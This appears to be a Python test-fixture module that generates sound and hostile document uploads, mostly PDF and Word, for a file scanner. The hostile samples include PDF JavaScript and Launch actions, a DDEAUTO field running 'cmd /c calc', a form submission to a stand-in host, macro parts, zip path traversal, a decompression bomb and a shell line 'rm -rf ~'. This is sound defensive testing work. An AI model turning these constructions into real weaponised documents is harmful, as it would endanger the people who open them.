"""Files as papers: sound ones of each kind, and what attackers, scanners and broken transfers make of them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

Change = Callable[[Pdf], object]
WORD_NAMES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OUTSIDE = '<Relationship Id="r1" Type="http://x/{}" Target="{}" TargetMode="External"/>'
BIG = 10_000_001


def pdf(text: str = "Verslag van het gesprek", change: Change | None = None, **options: object) -> bytes:
    """Make a PDF of one page with a text, changed by a function."""
    made = Pdf.new()
    made.add_blank_page()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page = made.pages[0]
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.obj.Contents = made.make_stream(f"BT /F1 12 Tf 50 700 Td ({text}) Tj ET".encode("latin-1"))
    if change:
        change(made)
    out = io.BytesIO()
    options.setdefault("deterministic_id", "encryption" not in options)
    made.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def _set(key: str, value: object) -> Change:
    return lambda made: made.Root.__setitem__(Name(key), value)


def _annotation(**entries: object) -> Change:
    def add(made: Pdf) -> None:
        annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
        made.pages[0].obj.Annots = Array([made.make_indirect(annotation)])

    return add


def _attached(name: str, content: bytes) -> Change:
    return lambda made: made.attachments.__setitem__(name, pikepdf.AttachedFileSpec(made, content, filename=name))


def _xfa(made: Pdf) -> None:
    form = made.make_stream(b"<xdp:xdp><template><script>app.alert(1)</script></template></xdp:xdp>")
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)


def _script_in_a_name_tree(made: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=made.make_stream(b"app.alert(1)"))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))


def word(body: str = "<w:p><w:r><w:t>Verslag</w:t></w:r></w:p>", types: str = TYPES, **parts: bytes | str) -> bytes:
    """Make a Word document; `parts` by name, in which `__` stands for `/` and `_DOT_` for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", f"<w:document {WORD_NAMES}><w:body>{body}</w:body></w:document>")
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return out.getvalue()


def workbook() -> bytes:
    """Make what begins as a workbook."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def picture(form: str, size: tuple[int, int] = (60, 80)) -> bytes:
    """Make a picture."""
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, form)
    return out.getvalue()


def _huge_png() -> bytes:
    """Make a PNG of a few bytes that says that it has 40,000 by 40,000 points."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 40_000, 40_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def _locked_word() -> bytes:
    return bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600


def _without_pages() -> bytes:
    made, out = Pdf.new(), io.BytesIO()
    made.save(out)
    return out.getvalue()


def _damaged_stream() -> bytes:
    content = pdf(compress_streams=False, change=_compressed)
    at = content.rindex(b"stream\n", 0, content.rindex(b"endstream")) + 9
    return content[:at] + b"\xff" * 12 + content[at + 12 :]


def _compressed(made: Pdf) -> None:
    data = zlib.compress(b"BT (tekst) Tj ET " * 200)
    stream = pikepdf.Stream(made, data)
    stream.Filter = Name.FlateDecode
    made.pages[0].obj.Contents = stream


def _field(code: str) -> str:
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>{code}</w:instrText></w:r></w:p>'


def _cut_up_field() -> str:
    pieces = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in ("DD", "EAU", 'TO cmd "/c calc"'))
    return f"<w:p>{pieces}</w:p>"


PROGRAM = b"MZ" + b"\0" * 60 + b"This program cannot be run in DOS mode."
SOUND: Mapping[str, Callable[[], bytes]] = {
    "pdf": pdf,
    "pdf_locked_for_changes": lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
    "pdf_with_object_streams": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    "pdf_with_a_link": lambda: pdf(
        change=_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.uwv.nl")))
    ),
    "pdf_that_opens_at_a_page": lambda: pdf(
        change=_set("/OpenAction", Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
    ),
    "pdf_with_data": lambda: pdf(change=_attached("gegevens.xml", b"<?xml version='1.0'?><a/>")),
    "docx": word,
    "docx_with_a_link": lambda: word(
        word___rels__document_DOT_xml_DOT_rels=RELATIONS.format(OUTSIDE.format("hyperlink", "https://www.uwv.nl"))
    ),
    "docx_with_a_page_number": lambda: word(_field("PAGE") + "<w:p><w:r><w:t>a</w:t></w:r></w:p>"),
    "jpeg": lambda: picture("JPEG"),
    "jpeg_with_a_film": lambda: picture("JPEG") + b"\0\0\0\x18ftypmp42" + b"\0" * 400,
    "png": lambda: picture("PNG"),
}
HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("leeg", lambda: b""),
    "white_space": ("leeg", lambda: b" \r\n\t\0" * 40),
    "pdf_with_a_blank_page": ("leeg", lambda: pdf(change=lambda made: made.pages[0].obj.__delitem__("/Contents"))),
    "docx_without_a_word": ("leeg", lambda: word("<w:p/>")),
    "too_large": ("te_groot", lambda: pdf() + b"%" * BIG),
    "png_of_a_billion_points": ("te_groot", _huge_png),
    "pdf_of_a_thousand_pages": (
        "te_groot",
        lambda: pdf(change=lambda made: [made.add_blank_page() for _ in range(999)]),
    ),
    "text": ("ander_soort", lambda: b"Geachte heer, hierbij mijn verslag."),
    "page": ("ander_soort", lambda: b"<html><script>alert(1)</script></html>"),
    "program": ("ander_soort", lambda: PROGRAM),
    "workbook": ("ander_soort", workbook),
    "zip": ("ander_soort", lambda: _zip_of_nothing()),
    "gif": ("ander_soort", lambda: picture("GIF")),
    "tiff": ("ander_soort", lambda: picture("TIFF")),
    "old_word": ("ander_soort", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 900),
    "rtf": ("ander_soort", lambda: rb"{\rtf1\ansi Verslag}"),
    "script": ("ander_soort", lambda: b"#!/bin/sh\nrm -rf ~\n"),
    "pdf_cut_off": ("beschadigd", lambda: pdf()[:-200]),
    "pdf_of_a_head_alone": ("beschadigd", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
    "pdf_without_pages": ("beschadigd", _without_pages),
    "pdf_with_a_damaged_page": ("beschadigd", _damaged_stream),
    "jpeg_cut_off": ("beschadigd", lambda: picture("JPEG")[:-300]),
    "png_cut_off": ("beschadigd", lambda: picture("PNG", (400, 400))[:-60]),
    "docx_cut_off": ("beschadigd", lambda: word()[:-80]),
    "docx_with_entities": (
        "beschadigd",
        lambda: word(word__header1_DOT_xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
    ),
    "docx_that_is_no_xml": ("beschadigd", lambda: word(word__header1_DOT_xml="<a><b></a>")),
    "docx_that_leads_out": ("beschadigd", lambda: word(**{"../weg.xml": "<a/>"})),
    "docx_bomb": ("beschadigd", lambda: word(word__media__a_DOT_bin=b"\0" * 120_000_000)),
    "pdf_with_a_password": ("op_slot", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="geheim"))),
    "docx_with_a_password": ("op_slot", _locked_word),
    "pdf_script_at_opening": (
        "met_script",
        lambda: pdf(change=_set("/OpenAction", Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))),
    ),
    "pdf_script_in_a_name_tree": ("met_script", lambda: pdf(change=_script_in_a_name_tree)),
    "pdf_script_in_object_streams": (
        "met_script",
        lambda: pdf(change=_script_in_a_name_tree, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "pdf_script_behind_an_owner_password": (
        "met_script",
        lambda: pdf(change=_script_in_a_name_tree, encryption=pikepdf.Encryption(owner="o", user="")),
    ),
    "pdf_script_in_a_field": (
        "met_script",
        lambda: pdf(
            change=_annotation(
                Subtype=Name.Widget, AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("AFDate_Format(1)")))
            )
        ),
    ),
    "pdf_script_with_another_spelling": (
        "met_script",
        lambda: pdf(change=_set("/OpenAction", Dictionary(S=Name.JavaScript, JS=String("x")))).replace(
            b"/JavaScript", b"/J#61vaScript"
        ),
    ),
    "pdf_that_starts_a_program": (
        "met_script",
        lambda: pdf(change=_set("/OpenAction", Dictionary(S=Name.Launch, F=String("cmd.exe")))),
    ),
    "pdf_that_sends": (
        "met_script",
        lambda: pdf(change=_set("/OpenAction", Dictionary(S=Name.SubmitForm, F=String("http://x.example")))),
    ),
    "pdf_with_a_script_link": (
        "met_script",
        lambda: pdf(change=_annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:x()")))),
    ),
    "pdf_with_a_film": ("met_script", lambda: pdf(change=_annotation(Subtype=Name.RichMedia))),
    "pdf_with_a_program": ("met_script", lambda: pdf(change=_attached("factuur.exe", PROGRAM))),
    "pdf_with_a_program_as_text": ("met_script", lambda: pdf(change=_attached("lees.txt", b"#!/bin/sh\nrm -rf ~"))),
    "pdf_with_an_archive": ("met_script", lambda: pdf(change=_attached("a.xml", workbook()))),
    "pdf_with_scripted_xfa": ("met_script", lambda: pdf(change=_xfa)),
    "docx_with_macros": ("met_script", lambda: word(word__vbaProject_DOT_bin=b"\xd0\xcf\x11\xe0")),
    "docx_that_says_macros": ("met_script", lambda: word(types=TYPES.replace("document.main", "macroEnabled.main"))),
    "docx_with_a_control": ("met_script", lambda: word(word__activeX__activeX1_DOT_xml="<a/>")),
    "docx_with_an_object": ("met_script", lambda: word(word__embeddings__oleObject1_DOT_bin=PROGRAM)),
    "docx_with_a_template_elsewhere": (
        "met_script",
        lambda: word(
            word___rels__settings_DOT_xml_DOT_rels=RELATIONS.format(
                OUTSIDE.format("attachedTemplate", "http://x.example/a.dotm")
            )
        ),
    ),
    "docx_with_a_field_that_runs": ("met_script", lambda: word(_field('DDEAUTO c:\\\\cmd.exe "/c calc"'))),
    "docx_with_a_field_cut_up": ("met_script", lambda: word(_cut_up_field())),
    "jpeg_with_an_archive": ("met_script", lambda: picture("JPEG") + workbook()),
    "jpeg_with_a_page": ("met_script", lambda: picture("JPEG") + b"<HTML><script>x()</script>"),
    "png_with_a_program": ("met_script", lambda: picture("PNG") + PROGRAM),
    "png_with_a_pdf": ("met_script", lambda: picture("PNG") + pdf()),
}


def _zip_of_nothing() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a.txt", "a")
        archive.writestr("b.txt", "b")
    return out.getvalue()
